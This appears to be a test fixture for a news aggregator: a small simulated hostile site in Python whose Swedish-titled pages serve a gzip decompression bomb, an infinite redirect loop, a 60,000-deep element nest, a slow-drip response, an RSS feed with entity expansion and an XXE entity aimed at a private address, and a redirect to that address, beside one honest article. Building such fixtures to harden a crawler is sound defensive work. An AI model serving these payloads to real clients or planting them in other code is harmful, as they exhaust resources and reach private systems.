"""A site that means harm, in small: each of its pages must end in a reason code, and one page is honest.

``bystander`` is what a redirect points at: a private address that nobody allowed. It must never be asked.
"""

from __future__ import annotations

import time
import zlib
from functools import cache
from typing import TYPE_CHECKING

from aggregator.demo.answers import Answer, Ask, esc, missing, moved, page, robots, xml
from aggregator.demo.pieces import body, every, local

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    from aggregator.demo.pieces import Piece

BOMB_BYTES = 60_000_000
DEPTH = 60_000
DRIP_SECONDS = 0.1
DRIPS = 300


def path(piece: Piece) -> str:
    """Where the honest piece is shown."""
    return f"/nyheter/{piece.slug}"


@cache
def _bomb() -> bytes:
    """60 MB of nothing in 60 kB of gzip."""
    packer = zlib.compressobj(6, zlib.DEFLATED, 31)
    block = b"<p>" + b"\0" * 999_997
    return b"".join([*(packer.compress(block) for _ in range(BOMB_BYTES // 1_000_000)), packer.flush()])


def _drops() -> Iterator[bytes]:
    """An endless page, a few bytes at a time."""
    yield b"<!DOCTYPE html><html><title>Snart kommer det</title><p>"
    for _ in range(DRIPS):
        time.sleep(DRIP_SECONDS)
        yield b"."


def _around(ask: Ask) -> Answer:
    turn = int(ask.query.get("varv", "0")) + 1
    return moved(f"{ask.base}/nyheter/runt-och-runt?varv={turn}", 302)


def _feed(ask: Ask) -> Answer:
    return xml(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "hej"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        f'<!ENTITY fil SYSTEM "{ask.bases["bystander"]}/hemligt">]>\n'
        f"<rss version='2.0'><channel><title>&b;</title><link>{ask.base}/</link><description>&fil;</description>"
        f"<item><title>&b;</title><link>{ask.base}/nyheter/bomb</link></item></channel></rss>"
    )


def _listing(ask: Ask) -> Answer:
    honest = every("hostile", ask.epoch)[0]
    links = {
        "runt-och-runt": "Den ändlösa vägen genom Kilsbergen runt och runt",
        "bomb": "En liten sida som växer till något mycket stort",
        "djupt": "Djupt ner i gruvan under Zinkgruvan i sextiotusen steg",
        "dropp": "Droppe för droppe fylls bassängen i Lindesberg",
        "bakdorr": "Bakdörren som leder till någon helt annan",
        honest.slug: honest.title,
    }
    items = "".join(
        f'<article><h2><a href="/nyheter/{slug}">{esc(title)}</a></h2></article>' for slug, title in links.items()
    )
    return page(f"<!DOCTYPE html><html lang='sv'><title>Nyheter</title><main><h1>Nyheter</h1>{items}</main></html>")


def _honest(ask: Ask) -> Answer:
    piece = every("hostile", ask.epoch)[0]
    stamp = f'<time datetime="{local(piece.at).isoformat()}"></time>' if piece.at else ""
    return page(
        f"<!DOCTYPE html><html lang='sv'><head><title>{esc(piece.title)}</title></head><body><main><article>"
        f"<h1>{esc(piece.title)}</h1>{stamp}{body(piece.text)}</article></main></body></html>"
    )


_PAGES: Mapping[str, Callable[[Ask], Answer]] = {
    "/robots.txt": lambda _ask: robots("User-agent: *\nAllow: /\n"),
    "/": _listing,
    "/feed.xml": _feed,
    "/nyheter/runt-och-runt": _around,
    "/nyheter/bomb": lambda _ask: Answer(
        body=_bomb(), headers={"Content-Encoding": "gzip"}, etag=False, compressible=False
    ),
    "/nyheter/djupt": lambda _ask: page("<!DOCTYPE html><title>Djupt</title>" + "<div>" * DEPTH, etag=False),
    "/nyheter/dropp": lambda _ask: Answer(drip=_drops()),
    "/nyheter/bakdorr": lambda ask: moved(f"{ask.bases['bystander']}/hemligt", 302),
    "/nyheter/arlig-sida-mitt-i-allt": _honest,
}


def answer(ask: Ask) -> Answer:
    """Whatever is asked of the hostile site."""
    found = _PAGES.get(ask.path)
    return found(ask) if found else missing()


def bystander(ask: Ask) -> Answer:
    """Somebody else's machine."""
    return page(f"<h1>Hemligt</h1><p>{esc(ask.path)}</p>")
